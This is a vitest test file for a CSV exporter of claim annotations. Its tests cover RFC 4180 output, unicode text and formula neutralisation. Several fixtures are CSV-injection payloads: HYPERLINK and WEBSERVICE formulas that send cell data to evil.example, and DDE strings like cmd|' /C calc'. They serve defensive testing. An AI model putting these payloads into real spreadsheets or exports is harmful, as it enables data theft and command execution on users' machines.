import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, exportCsv } from '../../../lib/annotations/export-csv';
import { EXPORT_FORMATS } from '../../../lib/annotations/export-formats';
import type { Claim } from '../../../lib/claims/schema';
import { bindingClaim, claimsById, makeMention, targetClaim } from './fixtures';

type Row = Record<string, string>;

function rows(csv: string): Row[] {
  return parse(csv, { columns: true }) as Row[];
}

describe('exportCsv', () => {
  it('writes a header and RFC 4180 records with CRLF line ends', () => {
    const csv = exportCsv([makeMention()], claimsById);
    const records = csv.split('\r\n');
    expect(records[0]).toBe(CSV_COLUMNS.join(','));
    expect(records).toHaveLength(3); // header, one row, and the empty string after the final CRLF
    expect(records[2]).toBe('');
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('fills claim columns from the claim set', () => {
    const [row] = rows(exportCsv([makeMention({ claimId: targetClaim.id })], claimsById));
    expect(row).toMatchObject({
      claim_id: targetClaim.id,
      // The words the card and popup use: an announced target that holds is "Current", not "In force".
      label: 'Announced target (goal)',
      status_label: 'Current since 1 Sep 2025',
      statement: 'Acme AI aims to publish a safety roadmap every quarter.',
      kind: 'announced-target',
      force: 'goal',
      status: 'in-force',
      status_date: '2025-09-01',
      actor: 'Acme AI',
      wrong_match: 'false',
      note: '',
    });
  });

  it('marks a mention whose claim is unknown', () => {
    const [row] = rows(exportCsv([makeMention({ claimId: 'gone' })], claimsById));
    expect(row).toMatchObject({
      claim_id: 'gone',
      label: 'Unknown claim (not in the loaded claim set)',
      status_label: '',
      kind: 'unknown',
      force: 'unknown',
      status: 'unknown',
      status_date: '',
      actor: '',
      statement: '',
      source_title: '',
      source_url: '',
    });
  });

  it('names the primary source: the first evidence, titled as it or its source names it, else the first source', () => {
    const withEvidence: Claim = {
      ...targetClaim,
      evidence: [{ quote: 'We will publish a roadmap every quarter.', locator: 'para 3', url: 'https://acme.example/blog/roadmaps' }],
    };
    const titledEvidence: Claim = {
      ...bindingClaim,
      evidence: [{ quote: 'We will pause.', locator: 's. 4', url: 'https://acme.example/policy-v1#s4', title: 'Acme scaling policy, section 4' }],
    };
    // A schema 1 pack stored before evidence existed: the field is absent whatever the type says.
    const noEvidence = { ...bindingClaim, id: 'old-pack-claim', evidence: undefined } as unknown as Claim;
    const claims = new Map<string, Claim>([withEvidence, titledEvidence, noEvidence].map((claim) => [claim.id, claim]));
    const parsed = rows(exportCsv([withEvidence, titledEvidence, noEvidence].map((claim) => makeMention({ claimId: claim.id })), claims));
    expect(parsed.map((row) => [row.source_title, row.source_url])).toEqual([
      ['Our roadmap plans', 'https://acme.example/blog/roadmaps'],
      ['Acme scaling policy, section 4', 'https://acme.example/policy-v1#s4'],
      ['Acme scaling policy, version 1', 'https://acme.example/policy-v1'],
    ]);
  });

  it("says a law's later start day in status_label, judged on the day of the export", () => {
    const law: Claim = { ...bindingClaim, id: 'acme-state-law', force: 'legal-obligation', status: 'modified', statusDate: '2026-03-27', effectiveDate: '2027-01-01' };
    const claims = new Map([[law.id, law]]);
    const label = (generatedAt: string) => (rows(EXPORT_FORMATS.csv.serialise([makeMention({ claimId: law.id })], claims, generatedAt).slice(1))[0]!.status_label);
    expect(label('2026-12-07T10:00:00.000Z')).toBe('Modified 27 Mar 2026; applies from 1 Jan 2027');
    expect(label('2027-01-02T10:00:00.000Z')).toBe('Modified 27 Mar 2026');
  });

  it('round-trips tricky text through a CSV parser', () => {
    const tricky = makeMention({
      pageUrl: 'https://news.example/a?x=1,2&y="3"',
      pageTitle: 'Commas, "quotes", and\nnew lines\r\nin a title — ünïcödé 🚀',
      exact: 'He said "no pause", then, after a beat,\nadded: ok',
      prefix: 'Emoji 👩🏽‍💻 and CJK 安全 before, ',
      suffix: ' \r\n trailing "quote"', // CR mid-cell; a leading CR is covered below
      start: 42,
      note: { text: 'Line one,\nline "two"\n\nline 🙂 three', updatedAt: '2026-11-21T20:00:00.000Z' },
      wrongMatch: { flagged: true, updatedAt: '2026-11-21T20:00:00.000Z' },
      possible: true,
      pageCitation: { published: '2026-02', site: '=Example, "News"', authors: ['Doe, Jane', 'O"Brien, Ann'] },
    });
    const plain = makeMention({ exact: 'plain text', start: 7 });
    const parsed = rows(exportCsv([tricky, plain], claimsById));
    expect(parsed).toHaveLength(2);
    expect(parsed[0]).toEqual({
      claim_id: bindingClaim.id,
      label: 'Binding commitment (self-imposed)',
      status_label: 'Withdrawn 24 Feb 2026',
      kind: 'binding-commitment',
      force: 'categorical-pledge',
      status: 'withdrawn',
      status_date: '2026-02-24',
      actor: 'Acme AI',
      statement: bindingClaim.statement,
      // The fixture's evidence cites an address none of its sources has: no title to give it.
      source_title: '',
      source_url: bindingClaim.evidence[0]!.url,
      page_url: tricky.pageUrl,
      page_title: tricky.pageTitle,
      page_site: '\'=Example, "News"',
      page_published: '2026-02',
      page_authors: 'Doe, Jane; O"Brien, Ann',
      frame_url: '',
      quote: tricky.anchor.exact,
      prefix: tricky.anchor.prefix,
      suffix: tricky.anchor.suffix,
      start: '42',
      end: String(42 + tricky.anchor.exact.length),
      note: tricky.note!.text,
      wrong_match: 'true',
      possible_match: 'true',
      first_seen: tricky.firstSeen,
      last_seen: tricky.lastSeen,
    });
    expect(parsed[1]!.quote).toBe('plain text');
    expect([parsed[1]!.page_site, parsed[1]!.page_published, parsed[1]!.page_authors], 'a page whose metadata said nothing').toEqual(['', '', '']);
    expect(parsed[1]!.start).toBe('7');
    expect(parsed[1]!.possible_match, 'a sure match').toBe('false');
  });

  it('neutralises spreadsheet formulas in page-derived and user text', () => {
    const hostile = makeMention({
      pageTitle: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      exact: '+cmd|\' /C calc\'!A0',
      prefix: '-1+1',
      suffix: '@SUM(1,2)',
      note: { text: '\tindented', updatedAt: '2026-11-21T20:00:00.000Z' },
    });
    const [row] = rows(exportCsv([hostile], claimsById));
    expect(row!.page_title).toBe(`'${hostile.pageTitle}`);
    expect(row!.quote).toBe(`'${hostile.anchor.exact}`);
    expect(row!.prefix).toBe("'-1+1");
    expect(row!.suffix).toBe("'@SUM(1,2)");
    expect(row!.note).toBe("'\tindented");
    // Cells that merely contain the characters later on are left alone, and numbers stay numbers.
    expect(row!.page_url).toBe(hostile.pageUrl);
    expect(row!.start).toBe(String(hostile.anchor.start));
    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('neutralises formulas in every text column, those of a claim from an imported claim pack included', () => {
    const hostileClaim: Claim = {
      ...bindingClaim,
      id: 'hostile-pack-claim',
      actor: { ...bindingClaim.actor, name: '=cmd|\' /C calc\'!A0' },
      statement: '\n@SUM(1+1)*cmd|\' /C calc\'!A0',
      evidence: [{ quote: 'x', locator: 'y', url: 'https://evil.example/', title: ' +HYPERLINK("https://evil.example/")' }],
    };
    const hostile = makeMention({
      claimId: hostileClaim.id,
      pageTitle: '-2+3',
      exact: '=1+1',
      prefix: '@A1',
      suffix: '\t=1',
      note: { text: '+1', updatedAt: '2026-11-21T20:00:00.000Z' },
    });
    const [row] = rows(exportCsv([hostile], new Map([[hostileClaim.id, hostileClaim]])));
    expect(row!.actor).toBe(`'${hostileClaim.actor.name}`);
    // A trigger after a line break gets its apostrophe there, where a reader splitting rows at line breaks starts a cell.
    expect(row!.statement).toBe("\n'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row!.source_title).toBe(`' +HYPERLINK("https://evil.example/")`);
    const TRIGGER = /^(?:[\t\r\0]|\s*[=+\-@])/;
    for (const column of CSV_COLUMNS) {
      if (column === 'start' || column === 'end') continue;
      expect(row![column], column).not.toMatch(TRIGGER);
    }
    // Every cell that reached the row holds the hostile text after its apostrophe: nothing was dropped.
    expect([row!.page_title, row!.quote, row!.prefix, row!.suffix, row!.note]).toEqual(["'-2+3", "'=1+1", "'@A1", "'\t'=1", "'+1"]);
  });

  it('neutralises a trigger after a semicolon, where a spreadsheet that splits lines on ";" starts a cell', () => {
    const line = exportCsv([makeMention({ pageTitle: 'x;=WEBSERVICE("https://evil.example/?"&A1); +1;y' })], claimsById).split('\r\n')[1]!;
    // Read as Excel does in a ";" locale: split at every semicolon. No part opens with a trigger, spaces trimmed.
    expect(line.split(';').some((field) => /^\s*[=+\-@]/.test(field))).toBe(false);
    expect(rows(exportCsv([makeMention({ pageTitle: 'a; =b;-c and d;e' })], claimsById))[0]!.page_title).toBe("a; '=b;'-c and d;e");
  });

  it('neutralises a trigger after a line break or a tab inside a cell, where a reader splitting on ";" starts a row (attack report 48)', () => {
    const csv = exportCsv([makeMention({ exact: 'the first line\n=2+3', suffix: 'x\r\n  @SUM(1)\t-1' })], claimsById);
    // Read as LibreOffice did with ";" as the separator: every line break a new row, every ";" or tab a new cell.
    expect(csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[;\t]/)).some((field) => /^\s*[=+\-@]/.test(field))).toBe(false);
    const [row] = rows(csv);
    expect([row!.quote, row!.suffix]).toEqual(["the first line\n'=2+3", "x\r\n  '@SUM(1)\t'-1"]);
  });

  it('neutralises a cell that starts with a carriage return', () => {
    const [row] = rows(exportCsv([makeMention({ pageTitle: '\r=1+1' })], claimsById));
    expect(row!.page_title).toBe("'\r'=1+1");
  });

  it('neutralises a cell whose first non-blank character is a trigger: a block boundary ("\n") or spaces before it', () => {
    // The attack tester's case: a list item starting '@SUM(' right after a highlighted item becomes the suffix "\n@SUM(…".
    const hostile = makeMention({
      prefix: '\n=HYPERLINK("https://evil.example/")',
      suffix: "\n@SUM(1+1)*cmd|' /C calc'!A0 ",
      pageTitle: '   =1+1',
      note: { text: '\u00a0\n\t-2+3', updatedAt: '2026-11-21T20:00:00.000Z' },
      exact: '\u0000=1',
    });
    const [row] = rows(exportCsv([hostile], claimsById));
    expect(row!.prefix).toBe('\n\'=HYPERLINK("https://evil.example/")');
    expect(row!.suffix).toBe("\n'@SUM(1+1)*cmd|' /C calc'!A0 ");
    expect(row!.page_title).toBe("'   =1+1");
    expect(row!.note).toBe("\u00a0\n\t'-2+3");
    expect(row!.quote).toBe("'\u0000=1");
    // A line feed or spaces before ordinary text, or a trigger after it, are left alone.
    const [plain] = rows(exportCsv([makeMention({ prefix: '\nThe company said', suffix: ' and a = b', pageTitle: 'Sum: =1+1' })], claimsById));
    expect(plain!.prefix).toBe('\nThe company said');
    expect(plain!.suffix).toBe(' and a = b');
    expect(plain!.page_title).toBe('Sum: =1+1');
  });

  it('can start with a byte order mark for Excel', () => {
    const csv = exportCsv([makeMention()], claimsById, { bom: true });
    expect(csv.startsWith('\uFEFFclaim_id,')).toBe(true);
    expect(exportCsv([], claimsById).startsWith('claim_id,')).toBe(true);
  });

  it('writes the export file with a byte order mark, which CSV readers take as UTF-8 with or without being told', () => {
    const mention = makeMention({ pageTitle: 'Acme’s “pause” · Example News', exact: 'Acme said “we will pause”' });
    const file = EXPORT_FORMATS.csv.serialise([mention], claimsById, '2026-11-22T10:00:00.000Z');
    const bytes = Buffer.from(file, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // Read back from the bytes, as a spreadsheet does: a reader told about BOMs, and one that strips it by hand.
    const told = parse(bytes, { columns: true, bom: true }) as Row[];
    const stripped = rows(bytes.subarray(3).toString('utf8'));
    for (const [row] of [told, stripped]) {
      expect(row!.page_title).toBe('Acme’s “pause” · Example News');
      expect(row!.quote).toBe('Acme said “we will pause”');
    }
  });

  it('writes block boundaries in quote, prefix and suffix as one line feed, inside quoted cells', () => {
    const mention = makeMention({
      prefix: 'Updated Nov 28, 2026\u2029\n\u2029',
      exact: 'Acme will pause',
      suffix: ' training.\u2029\n      \u2029Next',
    });
    const csv = exportCsv([mention], claimsById);
    expect(csv).not.toContain('\u2029');
    expect(csv).toContain(',"Updated Nov 28, 2026\n",');
    expect(csv).toContain('," training.\nNext",');
    const [row] = rows(csv);
    expect([row!.prefix, row!.quote, row!.suffix]).toEqual(['Updated Nov 28, 2026\n', 'Acme will pause', ' training.\nNext']);
    // Every line break in the file is either a record's CRLF or inside a quoted cell.
    expect(csv.replace(/"(?:[^"]|"")*"/g, '').replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });
});
